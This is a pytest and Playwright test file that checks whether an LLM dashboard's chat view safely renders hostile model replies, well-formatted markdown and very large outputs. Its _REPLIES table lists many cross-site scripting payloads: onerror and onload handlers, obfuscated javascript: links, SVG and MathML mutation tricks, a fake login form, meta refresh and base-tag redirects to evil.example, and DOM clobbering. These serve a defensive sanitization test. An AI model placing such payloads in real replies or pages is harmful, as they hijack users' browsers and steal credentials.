"""Hostile replies: shown as they are, run by nobody, and no slower than others."""

from collections.abc import Iterator

import pytest
from playwright.sync_api import Page, expect

from dashboard.browser import DEADLINE_MS
from dashboard.playground import Playground
from dashboard.served import Dashboard, dashboard
from fake_upstream import FakeUpstream, in_thread, saying

_CONFIGURATION = """
[engines.scripted]
base_url = "{scripted}"
models = {{ scripted = "toy" }}

[models.scripted]
name = "Scripted"
price = {{ input = 0, output = 0 }}
engines = ["scripted"]
context_tokens = 2000000
max_output_tokens = 1000000
"""
_REPLIES = {
    "images": '<img src=x onerror="window.hacked=1"> ![x](http://evil.example/a.png?secret) '
    "![y](data:image/svg+xml,<svg/onload=alert(1)>) <img srcset=http://evil.example/b.png>",
    "scripts": "<script>window.hacked = 1</script>\n\n<script src=http://evil.example/a.js></script>\n\n"
    "<iframe src=javascript:parent.hacked=1></iframe><object data=http://evil.example/></object>",
    "links": "[a](javascript:window.hacked=1) [b](JaVaScRiPt:window.hacked=1) "
    "[c](data:text/html,<script>parent.hacked=1</script>) [d](vbscript:x) [e](/api/v1/models) "
    "[f](#/keys) <a href=javascript:window.hacked=1>g</a> [h](\tjavascript:window.hacked=1) "
    "[i]( java\nscript:window.hacked=1 ) <javascript:window.hacked=1> [j](//evil.example/)",
    "svg": "<svg><script>window.hacked=1</script><animate onbegin=window.hacked=1 attributeName=x dur=1s>"
    "<a xlink:href=javascript:window.hacked=1><text>x</text></a></svg>\n\n<svg/onload=window.hacked=1>",
    "mathml": "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x "
    "onerror=window.hacked=1>'></table></mtext></math>\n\n<form><math><mtext></form><form><mglyph>"
    "<style></math><img src=x onerror=window.hacked=1>",
    "titles": '[a](https://a.example "x\\" onmouseover=window.hacked=1 y=\\"") '
    '![a"onerror=window.hacked=1 x="](https://a.example/) `<img src=x onerror=window.hacked=1>`',
    "code": '```html"onmouseover=window.hacked=1\n<img src=x onerror=window.hacked=1>\n```\n\n'
    "```html\n<script>window.hacked=1</script>\n```",
    "cells": "| <img src=x onerror=window.hacked=1> | [x](javascript:window.hacked=1) |\n|---|---|\n"
    "| <style>*{display:none}</style> | <link rel=stylesheet href=http://evil.example/a.css> |",
    "forms": "<form action=http://evil.example/><input name=x><button>Log in</button></form>"
    "<meta http-equiv=refresh content='0;url=http://evil.example/'><base href=http://evil.example/>",
    "clobbering": "<a id=app></a><a id=main name=main></a><input name=body><img name=getElementById>",
}


@pytest.fixture(scope="module")
def engine() -> Iterator[FakeUpstream]:
    with in_thread(FakeUpstream()) as fake:
        yield fake


@pytest.fixture(scope="module")
def served(engine: FakeUpstream, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Dashboard]:
    configuration = _CONFIGURATION.format(scripted=engine.base_url)
    with dashboard(tmp_path_factory.mktemp("hostile") / "home", configuration) as one:
        yield one


@pytest.fixture
def playground(served: Dashboard, page: Page) -> Playground:
    return Playground.of(page, served, model="scripted", account=served.account())


def chunk(text: str) -> dict[str, object]:
    return {"id": "1", "choices": [{"index": 0, "delta": {"content": text}, "finish_reason": None}]}


END = {"id": "1", "choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}]}


def in_pieces(text: str, size: int) -> list[object]:
    """Return a reply as chunks of so many characters."""
    return [*(chunk(text[at : at + size]) for at in range(0, len(text), size)), END]


@pytest.mark.parametrize("name", _REPLIES)
def test_a_hostile_reply_is_harmless(
    playground: Playground, engine: FakeUpstream, name: str
) -> None:
    page = playground.page
    reply = _REPLIES[name]
    engine.next(saying(*in_pieces(reply, 5)))  # markup is cut anywhere on its way
    playground.ask("Be hostile.")
    page.wait_for_function("() => document.querySelector('.md-final')?.textContent.trim()")
    for link in playground.answer.get_by_role("link").all():
        address = link.get_attribute("href") or ""
        assert address.startswith(("http://", "https://")), address
        assert link.get_attribute("rel") == "noopener noreferrer nofollow"
        assert link.get_attribute("target") == "_blank"
    forbidden = "img, script, iframe, object, embed, svg, math, style, link, meta, base, form, input, [id], [name], [style]"
    assert playground.answer.locator(forbidden).count() == 0
    for dropped in playground.answer.locator(".md-dropped").all():
        dropped.click()
    assert page.evaluate("() => window.hacked") is None
    # `watch` fails the test at its end if a request left the origin, or the policy had to step in.


def test_markup_of_a_reply_is_shown_as_text(playground: Playground, engine: FakeUpstream) -> None:
    engine.next(saying(chunk("Use <b>bold</b> & <img src=x> here."), END))
    playground.ask("Show markup.")
    expect(playground.answer).to_have_text("Use <b>bold</b> & <img src=x> here.")


def test_markdown_is_formatted(playground: Playground, engine: FakeUpstream) -> None:
    text = (
        "# Title\n\n1. *one*\n2. **two**\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n> quoted\n\n"
        "```python\ndef f():\n    return 1\n```\n\n- [x] done [link](https://a.example/)"
    )
    engine.next(saying(*in_pieces(text, 3)))
    playground.ask("Format.")
    answer = playground.answer
    expect(answer.get_by_role("heading", name="Title")).to_be_visible()
    expect(answer.locator("ol > li")).to_have_count(2)
    expect(answer.get_by_role("cell", name="2")).to_be_visible()
    expect(answer.locator("code .hljs-keyword").first).to_have_text("def")
    expect(answer.locator("code")).to_have_text("def f():\n    return 1")
    expect(answer.get_by_role("link", name="link")).to_have_attribute("href", "https://a.example/")
    expect(answer.get_by_role("button", name="Copy")).to_be_visible()


def test_sources_of_a_search_are_links_to_the_web_alone(
    playground: Playground, engine: FakeUpstream
) -> None:
    cited = chunk("So it is.[REF]0[/REF]")
    engine.next(saying(cited, END))
    playground.ask("Cite.")
    expect(playground.answer.locator("sup")).to_have_text("[1]")


LARGE = {
    "a table of 20,000 rows": "| a | b |\n|---|---|\n" + "| 1 | 2 |\n" * 20_000,
    "a megabyte of prose": ("A sentence with *emphasis* and `code`. " * 5 + "\n\n") * 5_000,
    "a megabyte in one line": "word " * 200_000,
    "a megabyte of code": "```python\n" + "value = [1, 2, 3]\n\n" * 52_000,
    "nested quotes": ">" * 30_000,
    "emphasis without an end": "*a _b ~~c " * 20_000,
}


@pytest.mark.parametrize("name", LARGE)
def test_a_large_reply_leaves_the_page_responsive(
    playground: Playground, engine: FakeUpstream, name: str
) -> None:
    page = playground.page
    text = LARGE[name]
    page.evaluate(
        """() => {
          window.longest = 0;
          new PerformanceObserver((list) => {
            for (const entry of list.getEntries()) window.longest = Math.max(window.longest, entry.duration);
          }).observe({ type: "longtask", buffered: true });
        }"""
    )
    engine.next(saying(*in_pieces(text, 8_000)))
    playground.say("Write much.")
    playground.message.fill("Typed meanwhile.")  # the page takes input while it shows the reply
    playground.wait()
    page.wait_for_function(
        "(length) => document.querySelector('.md').textContent.length >= length",
        arg=len(text.replace("|", "").replace("*", "").strip()) * 0.5,
        timeout=4 * DEADLINE_MS,
    )
    expect(playground.message).to_have_value("Typed meanwhile.")
    # No test is about speed: a page that parsed all of the text for each chunk would need minutes.
    assert page.evaluate("() => window.longest") < DEADLINE_MS
